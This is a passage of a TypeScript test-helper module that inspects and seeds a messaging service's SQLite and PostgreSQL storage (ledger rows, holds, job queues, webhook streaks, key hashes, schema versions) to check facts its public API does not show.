// What only storage shows. End-to-end tests set state and read it through the public surfaces
// (HTTP, the CLI, svc/testing); this module is the one place beside the storage contract suite
// (test/storage-contract) that reads the service's storage, each function for a fact no endpoint,
// event or CLI verb shows. test/public-surfaces.test.ts keeps every other end-to-end file out of it.
//
// Why each function is here (the fact, and why no public surface shows it):
// - chargesFor: the ledger's charge rows of one record. GET /v1/usage sums charges per category over
//   a period, and no resource carries its price, so "this message was charged 2 segments once" is
//   only in the ledger.
// - openHold, openHoldsTotal: a hold (the price reserved at accept, out of the balance, until the
//   record settles). GET /v1/billing shows the balance after it; no surface names the hold itself.
// - ledgerOf: every ledger row (its kind, cause, record and balance-after), for the invariant that
//   the wallet is the sum of its rows and for rows that are not usage (a sandbox balance change, an
//   agency's own rows): GET /v1/billing shows only the balance, /v1/usage only charges, summed.
// - footprint: what a refused request must not have left behind and no list shows: ledger rows,
//   holds, scheduled jobs and stored Idempotency-Key answers (records and events are read through
//   their lists and the events feed instead).
// - jobCount: the scheduler's queue (a job that must not be left scheduled is invisible until it runs).
// - emailDeliveryWaiting: one email's handover job in that queue. An email whose every recipient is
//   suppressed at send must schedule none, and one scheduled would show nowhere even once it ran (the
//   mail server skips suppressed recipients: no status moves, no event).
// - webhookStreak: an endpoint's failure streak (count, start, last success), which drives the
//   automatic disable; the endpoint's view shows only enabled and disabledReason.
// - leadsOf: the leads a brand's hosted opt-in form stored. No endpoint lists or reads a lead; it
//   leaves the service only as its lead.captured event, so a lead stored without its event (or a
//   refused form that stored one anyway) shows only here.
// - callState: the call engine's saved state of a call (its phase, what is left to run). GET
//   /v1/calls/{id} shows its status, the trace its finished steps; the phase saved before a step's
//   outside request (what makes a decision request sent once across a restart), and that nothing is
//   left once a call is over, show nowhere else.
// - apiKeyHash: what is stored of an API key's secret. The key is shown once when created, then only
//   its prefix; that storage holds its SHA-256 and never the secret shows nowhere else.
// - deviceTokenClaims: what the service's check of a softphone token finds, under the signing secret
//   kept in its storage. POST /v1/webrtc/devices/{id}/token mints one "verifiable by the service"
//   (contract §6), and no endpoint takes one back yet.
// - idempotencyAnswers: the stored Idempotency-Key answers as kept. A replay shows an answer only
//   after the secrets in it are blanked, so whether a secret was kept in clear shows nowhere else.
// - derivedTextsKept, mailboxCopies: how the mail sandbox keeps an email's text part (once per email)
//   and whether its recipients' rows hold their own copy. GET /v1/sandbox/mailbox shows each row's
//   text and html alike either way: where they are kept shows only in storage.
// - portHasPin, portDocumentContent: a port's PIN flag and a document's kept bytes. The PIN is
//   write-only and a document is listed without its content: no surface shows either.
// - sqliteFiles: the SQLite files' bytes (the WAL checkpointed first), for what must be in no file.
// - cellsContaining: every stored cell holding a text, for a secret that must be kept nowhere in
//   clear: an absence no surface can show.
// - storedState: a hash of every stored row, for "a refused request changed nothing" across every
//   table at once (lists show one family each, and not every table has one).
// - failInserts: storage refusing inserts into one table (a trigger), for proving a write is atomic
//   when the database itself fails mid-transaction: no surface makes the database fail.
// - deliveriesDue: the webhook deliveries still due for an attempt by a time. The delivery log shows
//   each one's status, not whether an attempt of it is still waiting to be made.
// - clockMode: which clock a service runs on (manual or system); GET /v1/sandbox/clock shows the time only.
// - scheduleEmittingJob (a writer): a job that emits an event when it runs, as a domain job does. No
//   surface schedules a job of a test's choosing.
// - setCampaignStatus, setWebhookStreak, addCharge, addSuppression, setBrandPageConfig, renameApiKeyInStorage,
//   handOverWithoutText, plantOlderMailboxRow, emitThenRollBack, emitAndListInTransaction,
//   emitOutsideTransaction, revokeKeyFromAnotherConnection (setters and writers): states and
//   writes no surface makes; see each comment.
// - pgSchemaVersions, pgTableNames, plantNewerPgSchema, pgSchema: a PostgreSQL database's recorded
//   schema versions and its tables, read (or a newer version planted) from outside any service: a
//   database a start refused has no service in front of it to ask, and no surface shows versions.
// - pgAccountIds, pgApiKeyCount, pgReplicaCount, pgMessages, pgWalletAndLedger, pgMediaOf, pgMediaNames: rows as
//   a PostgreSQL database holds them, read on a connection of the test's own, for "stored in
//   PostgreSQL" (and once, not twice) as the database itself has it, whichever replica wrote it.
// - pgApiKeyIds, pgDeliveredCount, pgChargeCounts, pgRepeatedStatusEvents: what replicas on one
//   database wrote, as it holds it: keys a joining replica must not add, each message delivered and
//   charged once, no status event written twice (the API shows one replica's answers at a time, and
//   no list of ledger rows or every event's repeats).
// - deliveryClaimOf, deliveryStatusOf: one event's delivery row (its claim, attempt and status) read
//   while no worker is left to say anything about it.
// - deliveryClaimOwners, settledDeliveryCount, deliveryAttempts: the webhook deliveries' claims
//   (which worker process holds an attempt, its lease) and attempt numbers. A delivery's view shows
//   its status, never which process claimed it. workerWindow: how many attempts one worker process
//   has in flight to one endpoint at most, which makes "more open than one window: two are sending".
// - snapshotIntegrity, snapshotMessageBodies, makeSnapshotOlder, tamperSnapshot: a snapshot file (an
//   SQLite file a service is not running on) read or altered as a file: its rows prove the copy was
//   consistent and whole, and an older or hostile file is something only another build or an
//   attacker writes. No service is running on the file to ask.
// - emailChargesInFile: the email charges per email, read from a data directory's SQLite file beside
//   the service running on it in another process (the test's only way in): the ledger has no API.
// - emitEvent (a writer): an event of the test's choosing (its type, fields and account), emitted as a
//   domain function emits one. Each event a surface makes comes with the action it reports (a message,
//   a call), and a webhook or feed test needs many, of every type, about records that need not exist.
// - plantSendingDomain (a setter): a sending domain stored as `failed` or `degraded`, states the API
//   reaches only through DNS checks over time; email-domains.test.ts walks those moves.
// - plantAcceptedEmail (a writer): an email stored as the accept path stores it, its handover job
//   scheduled, with recipients in exactly the states a mail-server test needs (`suppressed` at the
//   accept) and in either key mode, on any account: POST /v1/emails decides those states itself.
// - storedEmail: an email and its recipients as stored, with each recipient's delivery time and
//   stamps (epoch ms). GET /v1/emails/{id} shows no delivery time.
// - setBrandDraft (a setter): a brand in `draft`. A brand is submitted (or, a mock one, approved) as it
//   is created; no request puts one in `draft`.
// - commitChangeWithoutEvent (a writer), changesHeardBy: a change that is no event (a message's
//   status, a call's trace) committed alone, and what one process hears of them, as its console live
//   pages do. Every request that makes one also makes events, and only a signed-in page shows them.
import type { ServiceDeps } from '../../src/server/deps.js';
import type { TestSql } from './test-sql.js';
import type { UsageCategory } from '../../src/api/values/billing.js';
import type { CampaignStatus } from '../../src/api/values/registration.js';
import type { SuppressionReason } from '../../src/api/values/email.js';
import { charge, type ChargeItem } from '../../src/server/domain/billing/charging.js';
import { EMAIL_DELIVER_JOB } from '../../src/server/domain/email/jobs.js';
import { verifyDeviceToken, type DeviceTokenClaims } from '../../src/server/domain/voice/devices.js';
import { handOver } from '../../src/server/domain/email/delivery.js';
import { openDatabase, type Db } from '../../src/server/storage/sqlite/database.js';
import { SqliteStore } from '../../src/server/storage/sqlite/store.js';
import { SQLITE_SCHEMA } from '../../src/server/storage/sqlite/migrations.js';
import { DB_FILE } from '../../src/api/values/local-service.js';
import { readFileSync, readdirSync } from 'node:fs';
import Database from 'better-sqlite3';
import pg from 'pg';
import { PG_SCHEMA } from '../../src/server/storage/postgres/migrations.js';
import { UnsupportedSchemaError } from '../../src/server/storage/storage-errors.js';
import { DEFAULT_WEBHOOK_OPTIONS } from '../../src/server/webhooks/delivery-worker.js';
import { createHash, randomUUID } from 'node:crypto';
import { join } from 'node:path';
import type { EventRecord } from '../../src/server/storage/events-repo.js';
import type { EmailRecord, NewRecipient, RecipientRecord } from '../../src/server/storage/emails-repo.js';
import type { DomainStatus } from '../../src/api/values/email.js';
import { newId } from '../../src/server/ids.js';

/** The test service handle as this module needs it (test/helpers/service.ts's TestService). */
export interface Inspectable {
  deps: Pick<ServiceDeps, 'uow'>;
  sql: TestSql;
}

/** A charge as tests assert it: positive cents (the ledger row is signed as it moves the balance). */
export interface ChargeView {
  id: string;
  accountId: string;
  category: UsageCategory | null;
  quantity: number;
  amountCents: number;
  ref: string | null;
  createdAt: number;
}

/** The account's charge rows (oldest first); with `ref`, only that record's. */
export async function chargesFor(svc: Pick<Inspectable, 'deps'>, accountId: string, ref?: string): Promise<ChargeView[]> {
  const entries = await svc.deps.uow.read(async (tx) => await tx.ledger.entries(accountId));
  return entries
    .filter((e) => e.kind === 'charge' && e.category !== null && (ref === undefined || e.ref === ref))
    .map((e) => ({ id: e.id, accountId: e.accountId, category: e.category, quantity: e.quantity, amountCents: -e.amountCents, ref: e.ref, createdAt: e.createdAt }));
}

/** The open hold on a record (its amount and category), or undefined once it settled or was released. */
export async function openHold(svc: Pick<Inspectable, 'deps'>, ref: string): Promise<{ amountCents: number; category: string } | undefined> {
  const hold = await svc.deps.uow.read(async (tx) => await tx.holds.openFor(ref));
  return hold && { amountCents: hold.amountCents, category: hold.category };
}

/** The sum of the account's open holds: reserved, counted against the spend limit, not yet charged. */
export async function openHoldsTotal(svc: Pick<Inspectable, 'deps'>, accountId: string): Promise<number> {
  return await svc.deps.uow.read(async (tx) => await tx.holds.openTotal(accountId));
}

/** A ledger row as tests read it: its kind, what caused it, the record it is for, signed cents. */
export interface LedgerRowView {
  kind: string;
  cause: string;
  ref: string | null;
  amountCents: number;
  balanceAfterCents: number | null;
}

/** Every ledger row of the account (signed cents, oldest first), their sum and the wallet's balance. */
export async function ledgerOf(svc: Pick<Inspectable, 'deps'>, accountId: string): Promise<{ entries: LedgerRowView[]; sum: number; balance: number }> {
  return await svc.deps.uow.read(async (tx) => ({
    entries: (await tx.ledger.entries(accountId)).map((e) => ({ kind: e.kind, cause: e.cause, ref: e.ref, amountCents: e.amountCents, balanceAfterCents: e.balanceAfterCents })),
    sum: await tx.ledger.sum(accountId),
    balance: (await tx.wallets.get(accountId))?.balanceCents ?? 0,
  }));
}

/** Counts of what a refused request must leave untouched and no public list shows. `jobs` is the whole service's queue. */
export async function footprint(svc: Pick<Inspectable, 'sql'>, accountId: string): Promise<{ ledger: number; holds: number; jobs: number; idempotency: number }> {
  const count = async (table: string, byAccount: boolean): Promise<number> =>
    Number((await svc.sql.get<{ n: number }>(`SELECT COUNT(*) AS n FROM ${table}${byAccount ? ' WHERE account_id = ?' : ''}`, ...(byAccount ? [accountId] : [])))!.n);
  return { ledger: await count('ledger', true), holds: await count('holds', true), jobs: await count('jobs', false), idempotency: await count('idempotency_keys', true) };
}

/** A brand's stored leads, oldest first. */
export async function leadsOf(svc: Pick<Inspectable, 'deps'>, brandId: string): Promise<Array<{ id: string; phone: string; email: string | null; consent: boolean }>> {
  const leads = await svc.deps.uow.read(async (tx) => await tx.leads.listForBrand(brandId));
  return leads.map((l) => ({ id: l.id, phone: l.phone, email: l.email, consent: l.consent }));
}

/** The call engine's saved state of a call (plain JSON: `{ phase: { kind: 'decision.awaiting' }, … }`), or null once nothing is left to run. */
export async function callState(svc: Pick<Inspectable, 'deps'>, callId: string): Promise<unknown> {
  const call = await svc.deps.uow.read(async (tx) => await tx.calls.getById(callId));
  if (!call) throw new Error(`callState: no call ${callId}`);
  return call.state;
}

/** The stored hash of an API key (hex), or undefined when no key has this id. */
export async function apiKeyHash(svc: Pick<Inspectable, 'sql'>, keyId: string): Promise<string | undefined> {
  return (await svc.sql.get<{ hash: string }>('SELECT hash FROM api_keys WHERE id = ?', keyId))?.hash;
}

/** The claims of a device token as the service checks it at `wallNowMs` (default now), or null when it refuses it. */
export async function deviceTokenClaims(svc: Pick<Inspectable, 'deps'>, token: string, wallNowMs?: number): Promise<DeviceTokenClaims | null> {
  return await svc.deps.uow.write(async (tx) => await verifyDeviceToken(tx, token, wallNowMs));
}

/** Whether the mail server's handover job of one email waits in the scheduler's queue. */
export async function emailDeliveryWaiting(svc: Pick<Inspectable, 'sql'>, emailId: string): Promise<boolean> {
  return (await svc.sql.get('SELECT 1 FROM jobs WHERE kind = ? AND payload LIKE ?', EMAIL_DELIVER_JOB, `%${emailId}%`)) !== undefined;
}

/** Jobs of a kind waiting in the scheduler's queue. */
export async function jobCount(svc: Pick<Inspectable, 'deps'>, kind: string): Promise<number> {
  return await svc.deps.uow.read(async (tx) => await tx.jobs.countByKind(kind));
}

/** The body of every stored Idempotency-Key answer (of every account), as kept for replays. */
export async function idempotencyAnswers(svc: Pick<Inspectable, 'sql'>): Promise<string[]> {
  return (await svc.sql.all<{ body: string | null }>('SELECT body FROM idempotency_keys')).map((r) => r.body ?? '');
}

/** How many text parts are kept for one email (the mail sandbox derives one per email, or none). */
export async function derivedTextsKept(svc: Pick<Inspectable, 'sql'>, emailId: string): Promise<number> {
  return Number((await svc.sql.get<{ n: number }>('SELECT COUNT(*) AS n FROM email_derived_texts WHERE email_id = ?', emailId))!.n);
}

/** One email's mail sandbox rows: how many, and how many hold their own copy of the text and of the html. */
export async function mailboxCopies(svc: Pick<Inspectable, 'sql'>, emailId: string): Promise<{ n: number; texts: number; htmls: number }> {
  const row = (await svc.sql.get<Record<string, number>>('SELECT COUNT(*) AS n, COUNT(text) AS texts, COUNT(html) AS htmls FROM mailbox_messages WHERE email_id = ?', emailId))!;
  return { n: Number(row.n), texts: Number(row.texts), htmls: Number(row.htmls) };
}

/** Whether a port was stored with a PIN (the flag; the PIN itself is kept nowhere). */
export async function portHasPin(svc: Pick<Inspectable, 'sql'>, portId: string): Promise<boolean | undefined> {
  const row = await svc.sql.get<{ has_pin: number }>('SELECT has_pin FROM ports WHERE id = ?', portId);
  return row && Number(row.has_pin) === 1;
}

/** The bytes kept of a port's document, or undefined when none has this id. */
export async function portDocumentContent(svc: Pick<Inspectable, 'deps'>, documentId: string): Promise<Buffer | undefined> {
  return await svc.deps.uow.read(async (tx) => await tx.ports.documentContent(documentId));
}

/** Every file of the SQLite database (the database, its WAL and shared memory) by name, its bytes read after a checkpoint of the WAL. */
export function sqliteFiles(svc: { db: Db; dataDir: string }): Array<{ file: string; bytes: Buffer }> {
  svc.db.pragma('wal_checkpoint(PASSIVE)');
  return readdirSync(svc.dataDir)
    .filter((f) => f.startsWith(DB_FILE) || f.endsWith('.db') || f.endsWith('-wal'))
    .map((file) => ({ file, bytes: readFileSync(join(svc.dataDir, file)) }));
}

// --- setters: states a test needs that no public surface can make --------------------------------

/**
 * A campaign's status, set in storage. The sandbox decides only a campaign under review (contract §9),
 * and no surface takes an approved campaign (a number's, live) back out of `approved`, as a registry's
 * later rejection would: the send rules for that state are tested through this.
 */
export async function setCampaignStatus(svc: Pick<Inspectable, 'deps'> & { now(): number }, campaignId: string, status: CampaignStatus): Promise<void> {
  await svc.deps.uow.write(async (tx) => await tx.campaigns.setStatus(campaignId, status, svc.now()));
}

/**
 * An endpoint's failure streak: the count, when it began, the last success. It drives the automatic
 * disable (spec: Webhook endpoint states); the endpoint's view shows only `enabled` and `disabledReason`.
 */
export async function webhookStreak(svc: Pick<Inspectable, 'deps'>, endpointId: string): Promise<{ consecutiveFailures: number; failingSince: number | null; lastSuccessAt: number | null } | undefined> {
  const ep = await svc.deps.uow.read(async (tx) => await tx.webhookEndpoints.getById(endpointId));
  return ep && { consecutiveFailures: ep.consecutiveFailures, failingSince: ep.failingSince, lastSuccessAt: ep.lastSuccessAt };
}

/**
 * A failure streak written in storage (a setter). Through the API a streak is made only by failing
 * deliveries; a test of what re-enabling clears needs a long one and not the 72 h of clock it takes.
 */
export async function setWebhookStreak(svc: Pick<Inspectable, 'deps'> & { now(): number }, endpointId: string, streak: { consecutiveFailures: number; failingSince: number }): Promise<void> {
  await svc.deps.uow.write(async (tx) => await tx.webhookEndpoints.update(endpointId, streak, svc.now()));
}

/**
 * A live charge of a chosen category, quantity and amount, through the one charging path
 * (charging.ts `charge`) in a transaction of its own, as a billable action makes it. The views that
 * sum charges (GET /v1/usage, billing's month to date, the agency summary) are tested over several
 * categories and set quantities: making each by its action (a call of so many minutes, a batch of
 * emails) would test those families, and no surface makes a charge alone.
 */
export async function addCharge(svc: Pick<Inspectable, 'deps'>, accountId: string, item: ChargeItem): Promise<void> {
  await svc.deps.uow.write(async (tx) => await charge(tx, { accountId, mode: 'live' }, item));
}

/**
 * An email suppression with no email on record, as made before suppressions kept the email that
 * caused them (GET /v1/email-suppressions shows `emailId: null`). Through the service a suppression
 * comes only from the mail server's bounce, complaint or unsubscribe of a sent email, with its id.
 */
export async function addSuppression(svc: Pick<Inspectable, 'deps'> & { now(): number }, accountId: string, address: string, reason: SuppressionReason): Promise<void> {
  await svc.deps.uow.write(async (tx) => await tx.suppressions.add({ accountId, address, reason, emailId: null, createdAt: svc.now() }));
}

/**
 * A brand's hosted-page settings written as stored, unchecked: a value saved before PATCH checked it
 * (PATCH /v1/brands/{id} now refuses it), for the pages' own check when they render.
 */
export async function setBrandPageConfig(svc: Pick<Inspectable, 'sql'>, brandId: string, pageConfig: Record<string, unknown>): Promise<void> {
  await svc.sql.run('UPDATE brands SET page_config = ? WHERE id = ?', JSON.stringify(pageConfig), brandId);
}

/**
 * An API key's name changed behind the service (a writer), then read back as it was by a second
 * call: a change no request makes, for proofs that "nothing changed" see a change made past the API.
 */
export async function renameApiKeyInStorage(svc: Pick<Inspectable, 'sql'>, keyId: string, name: string): Promise<void> {
  await svc.sql.run('UPDATE api_keys SET name = ? WHERE id = ?', name, keyId);
}

/**
 * An email's handover as a version that kept no text part ran it: the recipients are handed to the
 * mail server and no text is kept (today's is given the text derived before it). No surface runs an older version.
 */
export async function handOverWithoutText(svc: Pick<Inspectable, 'deps'>, emailId: string): Promise<void> {
  await svc.deps.uow.write(async (tx) => await handOver(tx, emailId));
}

/** A mail sandbox row as a version that copied the body into every row wrote it (its own text and html). */
export async function plantOlderMailboxRow(
  svc: Pick<Inspectable, 'sql'>,
  row: { id: string; accountId: string; emailId: string; to: string; from: string; subject: string; text: string; html: string; deliveredAt: number },
): Promise<void> {
  await svc.sql.run(
    `INSERT INTO mailbox_messages (id, account_id, email_id, to_address, from_header, subject, text, html, tags, delivered_at)
     VALUES (?, ?, ?, ?, ?, ?, ?, ?, '[]', ?)`,
    row.id, row.accountId, row.emailId, row.to, row.from, row.subject, row.text, row.html, row.deliveredAt,
  );
}

/**
 * An event emitted in a write transaction that then fails with `error`: the outbox (deliveries are
 * written in the event's transaction) must roll back with it. Every request that emits commits or
 * refuses before emitting, so no surface makes a change fail after its event was written.
 */
export async function emitThenRollBack(svc: Pick<Inspectable, 'deps'>, accountId: string, type: string, fields: Record<string, unknown>, error: Error): Promise<void> {
  await svc.deps.uow.write(async (tx) => {
    await tx.events.emit(accountId, type, fields);
    throw error;
  });
}

/** An event emitted in a write transaction, and one endpoint's deliveries as that same transaction reads them before it commits. */
export async function emitAndListInTransaction(svc: Pick<Inspectable, 'deps'>, accountId: string, type: string, fields: Record<string, unknown>, endpointId: string): Promise<Array<{ status: string; attempt: number }>> {
  return await svc.deps.uow.write(async (tx) => {
    await tx.events.emit(accountId, type, fields);
    return (await tx.webhookDeliveries.list(endpointId, { since: 0, limit: 10 })).data.map((d) => ({ status: d.status, attempt: d.attempt }));
  });
}

/** The webhook deliveries due for an attempt at or before `at` (epoch ms), as the worker reads them. */
export async function deliveriesDue(svc: Pick<Inspectable, 'deps'>, at: number): Promise<unknown[]> {
  return await svc.deps.uow.read(async (tx) => await tx.webhookDeliveries.due(at));
}

/** The clock the service runs on: `manual` (moves only when advanced) or `system`. */
export function clockMode(svc: { deps: Pick<ServiceDeps, 'clock'> }): 'manual' | 'system' {
  return svc.deps.clock.mode;
}

/**
 * A job of kind `kind`, run at `at` (service time), that emits `type` with `fields` for `accountId`
 * in its own transaction, as a domain job does. Registered on every replica: the clock advance that
 * runs it goes to whichever one the request reaches.
 */
export async function scheduleEmittingJob(
  svc: Pick<Inspectable, 'deps'> & { replicas: Array<{ deps: Pick<ServiceDeps, 'scheduler'> }> },
  kind: string,
  at: number,
  event: { accountId: string; type: string; fields: Record<string, unknown> },
): Promise<void> {
  for (const r of svc.replicas) {
    r.deps.scheduler.register(kind, async (_payload, _job, tx) => {
      await tx.events.emit(event.accountId, event.type, event.fields);
    });
  }
  await svc.deps.uow.write((tx) => tx.scheduler.schedule(kind, at, {}));
}

/** The event store's emit called outside any transaction, as a programming error would (no request can). */
export async function emitOutsideTransaction(svc: { deps: Pick<ServiceDeps, 'events'> }, accountId: string, type: string, fields: Record<string, unknown>): Promise<void> {
  await svc.deps.events.emit(accountId, type, fields);
}

/**
 * A change that is no event (a message's status, a call's trace: what the console's live pages
 * show), committed as the domain commits one. No request makes one alone: each comes with events.
 */
export async function commitChangeWithoutEvent(svc: Pick<Inspectable, 'deps'>, change: { accountId: string; kind: 'message' | 'call'; id: string; status?: string }): Promise<void> {
  await svc.deps.uow.write(async (tx) => tx.events.touched(change.accountId, change.kind, change.id, change.status));
}

/** Every change that is no event this process hears (its own and, on PostgreSQL, other replicas'), as its live pages do; appended as heard. */
export function changesHeardBy(svc: { deps: Pick<ServiceDeps, 'events'> }): unknown[] {
  const heard: unknown[] = [];
  svc.deps.events.subscribeChanges((change) => heard.push(change));
  return heard;
}

/**
 * A key revoked by another process on the same SQLite file (a worker, a second tool): a connection
 * of its own writes it. Through the surfaces only the API process revokes (a worker beside it runs jobs).
 */
export async function revokeKeyFromAnotherConnection(dataDir: string, keyId: string, at: number): Promise<void> {
  const other = new SqliteStore(openDatabase(join(dataDir, DB_FILE)));
  try {
    await other.write(async (tx) => await tx.keys.revoke(keyId, at));
  } finally {
    await other.close();
  }
}

/**
 * A data directory an svc too old for this build to migrate left behind: its file records one version
 * below the oldest this build migrates (what a start reads first). `contents` reads back what the file
 * holds (its objects and recorded versions), to show a refusal changed nothing.
 */
export function plantTooOldDataDir(dataDir: string): { file: string; version: number; oldest: number; newest: number; contents(): string } {
  const file = join(dataDir, DB_FILE);
  const version = SQLITE_SCHEMA.oldest - 1;
  const db = new Database(file);
  db.exec(`CREATE TABLE schema_migrations (version INTEGER PRIMARY KEY, name TEXT NOT NULL, applied_at TEXT NOT NULL);
    INSERT INTO schema_migrations VALUES (${version}, 'from an older build', 'then')`);
  db.close();
  const contents = () => {
    const file_ = new Database(file, { readonly: true });
    try {
      return JSON.stringify([file_.prepare('SELECT type, name, sql FROM sqlite_master ORDER BY name').all(), file_.prepare('SELECT * FROM schema_migrations').all()]);
    } finally {
      file_.close();
    }
  };
  return { file, version, oldest: SQLITE_SCHEMA.oldest, newest: SQLITE_SCHEMA.version, contents };
}

// Columns a read may write by design: a key's last use (contract §3 shows it). Idempotency records
// are left out too: replaying a rejected request's answer is the contract, not a change of state.
// On PostgreSQL, `replicas` holds each replica's heartbeat: written every few seconds by design.
const VOLATILE_COLUMNS = new Set(['last_used_at']);
const SKIPPED_TABLES = new Set(['idempotency_keys', 'sqlite_sequence', 'replicas']);

export type StoredState = { hash: string; counts: Record<string, number> };

/**
 * A hash of every stored row of every table (minus the volatile columns above), and the row count
 * per table, read again only when the database's change mark moved (`TestSql.changeMark`).
 */
export async function storedState(svc: Pick<Inspectable, 'sql'>): Promise<StoredState> {
  const mark = await svc.sql.changeMark();
  const cached = lastState.get(svc.sql);
  if (cached && cached.mark === mark) return cached.snap;
  const names = (await svc.sql.tables()).filter((t) => !SKIPPED_TABLES.has(t));
  const tables = await Promise.all(names.map(async (name) => ({ name, rows: await svc.sql.all(`SELECT * FROM "${name}"`) })));
  const snap = digest(tables);
  lastState.set(svc.sql, { mark, snap });
  return snap;
}
const lastState = new WeakMap<object, { mark: string; snap: StoredState }>();

/** A cell as text: bytes as hex, a JSON column (PostgreSQL's jsonb) as its JSON text. */
const cellText = (v: unknown): string => (Buffer.isBuffer(v) ? v.toString('hex') : typeof v === 'object' && v !== null ? JSON.stringify(v) : String(v));

/**
 * The hash of `tables` and their row counts. Rows are sorted by their text: an engine may return a
 * table's rows in another order after an update (PostgreSQL writes a new row version), which is no change.
 */
function digest(tables: Array<{ name: string; rows: Array<Record<string, unknown>> }>): StoredState {
  const h = createHash('sha256');
  const counts: Record<string, number> = {};
  for (const { name, rows } of [...tables].sort((a, b) => (a.name < b.name ? -1 : a.name > b.name ? 1 : 0))) {
    counts[name] = rows.length;
    h.update(name);
    const lines = rows.map((r) =>
      Object.entries(r)
        .filter(([k]) => !VOLATILE_COLUMNS.has(k))
        .map(([k, v]) => `${k}=${cellText(v)};`)
        .join(''),
    );
    for (const line of lines.sort()) h.update(`${line}\n`);
  }
  return { hash: h.digest('hex'), counts };
}

/** `table.column` of every stored cell whose text (bytes read as latin1) contains `needle`. */
export async function cellsContaining(svc: Pick<Inspectable, 'sql'>, needle: string): Promise<string[]> {
  const { sql } = svc;
  const hits: string[] = [];
  for (const table of await sql.tables()) {
    for (const row of await sql.all(`SELECT * FROM "${table}"`)) {
      for (const [col, value] of Object.entries(row)) {
        const text = Buffer.isBuffer(value) ? value.toString('latin1') : typeof value === 'object' && value !== null ? JSON.stringify(value) : String(value);
        if (text.includes(needle)) hits.push(`${table}.${col}`);
      }
    }
  }
  return hits;
}

/**
 * Makes every insert into `table` fail as storage would (PostgreSQL: SQLSTATE 53100 disk_full), on
 * either engine, with a trigger planted through `sql`; returns what removes it. For proving a write
 * is atomic in storage: what the same transaction wrote before the failing insert must be gone.
 * The message is the database's, so a test can check it never reaches a client.
 */
export async function failInserts(svc: Pick<Inspectable, 'sql'>, table: string, message: string): Promise<() => Promise<void>> {
  const { sql } = svc;
  if (!/^[a-z_]+$/.test(table) || message.includes("'")) throw new Error(`failInserts: a plain table name and a message without quotes, please (${table})`);
  const trigger = `svc_test_fail_${table}`;
  if (sql.engine === 'sqlite') {
    await sql.run(`CREATE TRIGGER ${trigger} BEFORE INSERT ON ${table} BEGIN SELECT RAISE(ABORT, '${message}'); END`);
    return async () => void (await sql.run(`DROP TRIGGER ${trigger}`));
  }
  await sql.run(`CREATE FUNCTION ${trigger}() RETURNS trigger LANGUAGE plpgsql AS $$ BEGIN RAISE EXCEPTION '${message}' USING ERRCODE = 'disk_full'; END $$`);
  await sql.run(`CREATE TRIGGER ${trigger} BEFORE INSERT ON ${table} FOR EACH ROW EXECUTE FUNCTION ${trigger}()`);
  return async () => {
    await sql.run(`DROP TRIGGER ${trigger} ON ${table}`);
    await sql.run(`DROP FUNCTION ${trigger}()`);
  };
}

// --- a PostgreSQL database, read on a connection of the test's own -------------------------------

/** Runs one statement on `url` on a connection of its own, outside any service. */
async function pgRows<R extends pg.QueryResultRow>(url: string, text: string, values: unknown[] = []): Promise<R[]> {
  const client = new pg.Client({ connectionString: url });
  await client.connect();
  try {
    return (await client.query<R>(text, values)).rows;
  } finally {
    await client.end();
  }
}

/**
 * This build's PostgreSQL schema: the newest version it migrates to, the versions a new database
 * records, and the error a start throws on a database of a version it does not migrate.
 */
export const pgSchema = {
  newest: PG_SCHEMA.version,
  newDatabaseVersions: PG_SCHEMA.pending([]).map((m) => m.version),
  UnsupportedSchemaError,
};

/** The schema versions the database records, ascending: what its migrations wrote. */
export async function pgSchemaVersions(url: string): Promise<number[]> {
  return (await pgRows<{ version: number }>(url, 'SELECT version FROM schema_migrations ORDER BY version')).map((r) => r.version);
}

/** The tables of the database's public schema: what a refused start must not have created. */
export async function pgTableNames(url: string): Promise<string[]> {
  return (await pgRows<{ table_name: string }>(url, "SELECT table_name FROM information_schema.tables WHERE table_schema = 'public'")).map((t) => t.table_name);
}

/** A database an svc newer than this build left: schema_migrations alone, recording `version`. */
export async function plantNewerPgSchema(url: string, version: number): Promise<void> {
  if (!Number.isInteger(version)) throw new Error(`plantNewerPgSchema: a whole version, please (${version})`);
  await pgRows(url, `CREATE TABLE schema_migrations (version integer PRIMARY KEY, name text NOT NULL, applied_at text NOT NULL); INSERT INTO schema_migrations VALUES (${version}, 'from a newer build', 'then')`);
}

/** The ids of every account the database holds (the agency and its sub-accounts): how many bootstraps ran. */
export async function pgAccountIds(url: string): Promise<string[]> {
  return (await pgRows<{ id: string }>(url, 'SELECT id FROM accounts')).map((a) => a.id);
}

/** How many API keys the database holds, of every account: how many bootstraps made keys. */
export async function pgApiKeyCount(url: string): Promise<number> {
  return (await pgRows(url, 'SELECT id FROM api_keys')).length;
}

/** How many replicas the database has registered (each process while it runs): those that left are gone. */
export async function pgReplicaCount(url: string): Promise<number> {
  return (await pgRows(url, 'SELECT id FROM replicas')).length;
}

/** The ids of every API key the database holds, ascending: a replica that joins must add none. */
export async function pgApiKeyIds(url: string): Promise<Array<{ id: string }>> {
  return await pgRows(url, 'SELECT id FROM api_keys ORDER BY id');
}

/** How many of the messages `ids` the database holds as delivered. */
export async function pgDeliveredCount(url: string, ids: string[]): Promise<number> {
  return (await pgRows<{ n: number }>(url, "SELECT COUNT(*)::int AS n FROM messages WHERE id = ANY($1) AND status = 'delivered'", [ids]))[0]!.n;
}

/** Per record of `refs` charged, how many charge rows the ledger holds for it (a record charged twice shows 2). */
export async function pgChargeCounts(url: string, refs: string[]): Promise<Array<{ ref: string; n: number }>> {
  return await pgRows(url, "SELECT ref, COUNT(*)::int AS n FROM ledger WHERE kind = 'charge' AND ref = ANY($1) GROUP BY ref", [refs]);
}

/** The counts of message.status events written more than once for the same message and status (none, when each job ran once). */
export async function pgRepeatedStatusEvents(url: string): Promise<Array<{ n: number }>> {
  return await pgRows(
    url,
    "SELECT COUNT(*)::int AS n FROM events WHERE type = 'message.status' GROUP BY body::json->'data'->>'messageId', body::json->'data'->>'status', body::json->>'messageId', body::json->>'status' HAVING COUNT(*) > 1",
  );
}

/** The stored messages with this id or this body, as the database holds them (body and status). */
export async function pgMessages(url: string, by: { id: string } | { body: string }): Promise<Array<{ body: string; status: string }>> {
  const [column, value] = 'id' in by ? ['id', by.id] : ['body', by.body];
  return await pgRows(url, `SELECT body, status FROM messages WHERE ${column} = $1`, [value]);
}

/** An account's wallet balance and the sum of its ledger rows, as text (bigint), read in one statement. */
export async function pgWalletAndLedger(url: string, accountId: string): Promise<{ balance: string; ledger: string } | undefined> {
  const [wallet] = await pgRows<{ balance: string; ledger: string }>(
    url,
